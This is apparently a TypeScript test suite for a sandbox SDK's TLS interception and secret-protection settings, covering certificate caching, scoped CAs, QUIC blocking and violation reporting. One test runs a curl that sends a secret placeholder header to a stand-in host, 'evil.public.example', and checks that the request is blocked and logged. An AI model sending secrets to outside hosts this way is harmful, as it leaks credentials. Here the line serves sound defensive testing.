import assert from 'node:assert/strict';
import { X509Certificate } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { after, before, test } from 'node:test';
import { getCACertificates } from 'node:tls';
import { Client, Events, Sandbox, type NetworkChange } from '@svc/sdk';
import { waitUntil } from '@svc/contract/testing';
import { startWeb, WITH_CURL, type Web } from './web-fixture.ts';

/** What fields of `network.tls` and `network.secrets` do, seen from inside a sandbox and from the hosts that it asks. */

const [API, EVIL] = ['api.public.example', 'evil.public.example'];
const HOUR_MS = 3_600_000;
const undo = new AsyncDisposableStack();
let web: Web;
let client: Client;
let sandbox: Sandbox;

before(async () => {
  web = await startWeb(undo);
  client = new Client({ apiUrl: web.server.url });
  sandbox = await Sandbox.create({ image: WITH_CURL, isolation: 'container', client });
});
after(() => undo.disposeAsync());

type Tls = NonNullable<NetworkChange['tls']>;

async function setTls(tls: Tls): Promise<void> {
  await sandbox.network.update({ tls });
}

async function sh(line: string, from: Sandbox = sandbox) {
  const { code, stdout, stderr } = await from.commands.run('sh', ['-c', line]);
  return { code, stdout: Buffer.from(stdout).toString(), stderr: Buffer.from(stderr).toString() };
}

/** The certificate that a client inside is shown. */
async function shownFor(host: string): Promise<X509Certificate> {
  const { stdout, stderr } = await sh(`curl -sSk -m 20 -o /dev/null -w '%{certs}' https://${host}/`);
  const [pem = ''] = /-----BEGIN CERTIFICATE-----[^]*?-----END CERTIFICATE-----/.exec(stdout) ?? [];
  assert.notEqual(pem, '', stderr);
  return new X509Certificate(pem);
}

const isOfWeb = (certificate: X509Certificate) =>
  certificate.verify(new X509Certificate(web.certificate).publicKey);

test('with tls.enabled connections are read, and without they are left alone', async () => {
  assert.ok(isOfWeb(await shownFor(API)));
  await setTls({ enabled: true, upstream_ca_cert: [web.certificate] });
  assert.ok(!isOfWeb(await shownFor(API)));
  await setTls({ enabled: false });
  assert.ok(isOfWeb(await shownFor(API)));
});

test('certificates hold for cache.validity_hours, and cache.capacity of them are kept', async () => {
  const read = { enabled: true, upstream_ca_cert: [web.certificate] };
  for (const hours of [3, 30]) {
    await setTls({ ...read, cache: { validity_hours: hours } });
    const left = (await shownFor(API)).validToDate.getTime() - Date.now();
    assert.ok(left <= hours * HOUR_MS && left > (hours - 1) * HOUR_MS, `${left} ms of ${hours} h`);
  }
  for (const [capacity, isKept] of [
    [2, true],
    [1, false],
  ] as const) {
    await setTls({ ...read, cache: { capacity } });
    const first = await shownFor(API);
    await shownFor(EVIL);
    assert.equal((await shownFor(API)).serialNumber === first.serialNumber, isKept, `capacity ${capacity}`);
  }
});

test('an authority of scoped_upstream_ca_cert vouches for hosts of its pattern alone', async () => {
  for (const [pattern, expected] of [
    [API, [0, 35]],
    ['*.public.example', [0, 0]],
    ['other.example', [35, 35]],
  ] as const) {
    await setTls({ enabled: true, scoped_upstream_ca_cert: [{ pattern, path: web.certificate }] });
    const codes = [];
    for (const host of [API, EVIL])
      codes.push((await sh(`curl -sSk -m 20 -o /dev/null https://${host}/`)).code);
    assert.deepEqual(codes, expected, pattern);
  }
});

test('datagrams to intercepted ports are dropped with block_quic_on_intercept, and pass without', async () => {
  const { received, publicAddress } = web.internet;
  const send = (word: string) => sh(`curl -sS -m 1 tftp://${publicAddress}:9090/${word}`);
  const tls = { enabled: true, intercepted_ports: [443, 9090] };
  await setTls(tls);
  await send('dropped');
  await setTls({ ...tls, block_quic_on_intercept: false });
  await waitUntil(async () => {
    await send('passed');
    return received.some((line) => line.includes('passed'));
  });
  assert.ok(!received.some((line) => line.includes('dropped')), received.join('\n'));
});

test('with trust_host_cas programs inside trust whom the host trusts', async () => {
  const [first] = getCACertificates('system');
  assert.ok(first, 'the host has ca-certificates');
  const trusting = await Sandbox.create({
    image: WITH_CURL,
    isolation: 'container',
    network: { trust_host_cas: true },
    client,
  });
  const bundle = 'cat /etc/ssl/certs/ca-certificates.crt';
  const within = (await sh(bundle, trusting)).stdout;
  assert.equal(within.split(first.trim()).length - 1, 1, 'once, however often the host lists it');
  assert.ok(!(await sh(bundle)).stdout.includes(first.trim()));
});

test('a violation is reported with the action of its secret, of all, or the default, and logged unless that is block', async () => {
  await setTls({ enabled: true, upstream_ca_cert: [web.certificate] });
  const entry = {
    env_var: 'KEY',
    placeholder: '$SVC_KEY',
    value: 'v',
    allowed_hosts: [{ type: 'exact', value: API } as const],
  };
  const cases = [
    ['own-block', 'block', { on_violation: { type: 'block' } }, { on_violation: { type: 'block_and_log' } }],
    [
      'own-log',
      'block_and_log',
      { on_violation: { type: 'block_and_log' } },
      { on_violation: { type: 'block' } },
    ],
    ['all-block', 'block', {}, { on_violation: { type: 'block' } }],
    ['all-log', 'block_and_log', {}, { on_violation: { type: 'block_and_log' } }],
    ['unsaid', 'block_and_log', { on_violation: null }, {}],
  ] as const;
  for (const [path, , own, all] of cases) {
    await sandbox.network.update({ secrets: { entries: [{ ...entry, ...own }], ...all } });
    const { code } = await sh(`curl -sSk -m 20 -H 'X: $SVC_KEY' https://${EVIL}/${path}`);
    assert.notEqual(code, 0, path);
  }
  const actions = new Map<string, string>();
  await waitUntil(async () => {
    for await (const { payload } of Events.list({ client, type: 'secret_violation' })) {
      const [, action = '', path = ''] =
        /"action":"(\w+)".*"path":"\/([^"]*)"/.exec(JSON.stringify(payload)) ?? [];
      actions.set(path, action);
    }
    return actions.size === cases.length;
  });
  const log = await readFile(web.server.engine.logFile, 'utf8');
  for (const [path, action] of cases) {
    assert.equal(actions.get(path), action, path);
    assert.equal(log.includes(`/${path}`), action !== 'block', path);
  }
  assert.ok(!web.said.some((request) => request.startsWith(EVIL) && request.includes(' X ')));
});
